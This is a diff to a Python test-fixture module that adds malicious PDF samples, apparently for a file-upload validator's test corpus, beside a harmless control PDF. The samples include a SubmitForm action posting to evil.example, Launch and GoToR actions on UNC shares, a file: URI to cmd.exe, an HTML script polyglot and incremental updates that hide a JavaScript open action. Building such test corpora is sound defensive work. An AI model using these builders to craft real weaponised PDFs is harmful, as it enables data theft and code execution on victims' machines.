@@ -219,6 +219,124 @@ def _xfa_form(pdf: pikepdf.Pdf) -> None:
     )
 
 
+def _link_action(action: pikepdf.Dictionary) -> Callable[[pikepdf.Pdf], None]:
+    """A change putting a link annotation with ``action`` on the first page."""
+
+    def change(pdf: pikepdf.Pdf) -> None:
+        annotation = pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Link,
+            Rect=pikepdf.Array([0, 0, 100, 100]),
+            A=action,
+        )
+        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))
+
+    return change
+
+
+_SUBMIT_FORM = pikepdf.Dictionary(
+    S=pikepdf.Name.SubmitForm,
+    F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://evil.example/collect")),
+    Flags=4,
+)
+_GOTO_REMOTE_UNC = pikepdf.Dictionary(
+    S=pikepdf.Name.GoToR,
+    F=pikepdf.String("\\\\evil.example\\share\\doc.pdf"),
+    D=pikepdf.Array([0, pikepdf.Name.Fit]),
+)
+_LAUNCH_UNC = pikepdf.Dictionary(
+    S=pikepdf.Name.Launch, F=pikepdf.String("\\\\evil.example\\share\\run.exe")
+)
+_GOTO_EMBEDDED = pikepdf.Dictionary(
+    S=pikepdf.Name.GoToE,
+    D=pikepdf.Array([0, pikepdf.Name.Fit]),
+    T=pikepdf.Dictionary(R=pikepdf.Name.C, N=pikepdf.String("payload.pdf")),
+)
+_URI_FILE = pikepdf.Dictionary(
+    S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/Windows/System32/cmd.exe")
+)
+_URI_UNC = pikepdf.Dictionary(
+    S=pikepdf.Name.URI, URI=pikepdf.String("\\\\evil.example\\share\\a.pdf")
+)
+
+
+def html_polyglot(pdf: bytes) -> bytes:
+    """``pdf`` with an HTML page in a comment just before its end marker, far past byte 1024."""
+    head, marker, tail = pdf.rpartition(b"%%EOF")
+    page = b"%<html><body><script>fetch('/api/v1/dossiers/')</script></body></html>\n"
+    return head + page + marker + tail
+
+
+def incremental_update(
+    pdf: bytes, objects: dict[int, bytes], root: int, *, free: tuple[int, ...] = ()
+) -> bytes:
+    """``pdf`` with an incremental update (a new revision) replacing ``objects`` by number and
+    marking the objects numbered ``free`` deleted."""
+    prev = int(pdf.rsplit(b"startxref", 1)[1].split()[0])
+    size = int(pdf.rsplit(b"/Size", 1)[1].split()[0].rstrip(b">/"))
+    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
+    offsets = {}
+    for number, body in sorted(objects.items()):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n0 1\n0000000000 65535 f \n"
+    for number, offset in sorted(offsets.items()):
+        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
+    for number in free:
+        out += b"%d 1\n0000000000 00001 f \n" % number
+    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (
+        max(size, *offsets) + 1,
+        root,
+        prev,
+    )
+    out += b"startxref\n%d\n%%%%EOF\n" % xref
+    return bytes(out)
+
+
+def _numbers(pdf: bytes) -> tuple[int, int, int]:
+    """The catalog's and the page tree's object numbers in ``pdf``, and its count of objects."""
+    with pikepdf.open(io.BytesIO(pdf)) as opened:
+        return opened.Root.objgen[0], opened.Root.Pages.objgen[0], len(opened.objects)
+
+
+def pdf_hiding_open_action(*, object_streams: bool = False) -> bytes:
+    """A PDF whose first revision runs JavaScript on opening and whose update hides it.
+
+    The update replaces the catalog by one without /OpenAction; the JavaScript's bytes stay in
+    the file (in an object stream, compressed, with ``object_streams``).
+    """
+    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
+    with pikepdf.open(io.BytesIO(reportlab_pdf())) as pdf:
+        pdf.Root.OpenAction = pdf.make_indirect(
+            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('x')"))
+        )
+        out = io.BytesIO()
+        pdf.save(out, object_stream_mode=mode)
+    first = out.getvalue()
+    root, pages, _ = _numbers(first)
+    with pikepdf.open(io.BytesIO(first)) as opened:
+        action = opened.Root.OpenAction.objgen[0]
+    return incremental_update(
+        first, {root: b"<< /Type /Catalog /Pages %d 0 R >>" % pages}, root, free=(action,)
+    )
+
+
+def pdf_with_harmless_update() -> bytes:
+    """A real PDF with an incremental update that only changes its title, as editors write."""
+    first = reportlab_pdf()
+    root, pages, size = _numbers(first)
+    title = size + 10
+    return incremental_update(
+        first,
+        {
+            title: b"<< /Title (Don de nghi) >>",
+            root: b"<< /Type /Catalog /Pages %d 0 R >>" % pages,
+        },
+        root,
+    )
+
+
 def _nothing(pdf: pikepdf.Pdf) -> None:
     del pdf  # the change is the encryption
 
@@ -270,6 +388,15 @@ def malicious_corpus() -> list[Bad]:
         Bad("pdf-xfa", "xfa.pdf", pdf_with(_xfa_form), "XFA"),
         Bad("pdf-encrypted", "khoa.pdf", pdf_with(_nothing, encrypt=True), "mã hóa"),
         Bad("pdf-zip-polyglot", "da.pdf", pdf + zip_of([("a.txt", b"x")]), "đa định dạng"),
+        Bad("pdf-submit-form", "gui.pdf", pdf_with(_link_action(_SUBMIT_FORM)), "SubmitForm"),
+        Bad("pdf-goto-remote-unc", "mo.pdf", pdf_with(_link_action(_GOTO_REMOTE_UNC)), "GoToR"),
+        Bad("pdf-launch-unc", "chay.pdf", pdf_with(_link_action(_LAUNCH_UNC)), "Launch"),
+        Bad("pdf-goto-embedded", "nhung.pdf", pdf_with(_link_action(_GOTO_EMBEDDED)), "đính kèm nhúng"),
+        Bad("pdf-uri-file", "tep.pdf", pdf_with(_link_action(_URI_FILE)), "file:"),
+        Bad("pdf-uri-unc", "mang.pdf", pdf_with(_link_action(_URI_UNC)), "thư mục mạng"),
+        Bad("pdf-html-after-1024", "trang.pdf", html_polyglot(pdf), "HTML"),
+        Bad("pdf-update-hides-open-action", "sua.pdf", pdf_hiding_open_action(), "JavaScript"),
+        Bad("pdf-update-hides-open-action-objstm", "sua2.pdf", pdf_hiding_open_action(object_streams=True), "JavaScript"),
         # images
         Bad("jpeg-truncated", "cat.jpg", jpeg[: len(jpeg) // 2], "cắt cụt"),
         Bad("png-truncated", "cat.png", png[: len(png) // 2], "cắt cụt"),
@@ -312,6 +439,7 @@ def control_set() -> list[Good]:
         Good("pdf-three-pages", "ho-so.PDF", reportlab_pdf(pages=3), "pdf"),
         Good("pdf-with-link", "lien-ket.pdf", pdf_with(_link_to_uri), "pdf"),
         Good("pdf-open-at-page", "mo-trang.pdf", pdf_with(_open_at_page), "pdf"),
+        Good("pdf-updated", "cap-nhat.pdf", pdf_with_harmless_update(), "pdf"),
         Good("jpeg-photo", "anh-the.jpg", photo_jpeg(), "jpeg"),
         Good("jpeg-scan", "ban-quet.jpeg", text_image(["Căn cước"], kind="JPEG"), "jpeg"),
         Good("png-scan", "ban-quet.png", text_image(["Giấy khai sinh"]), "png"),
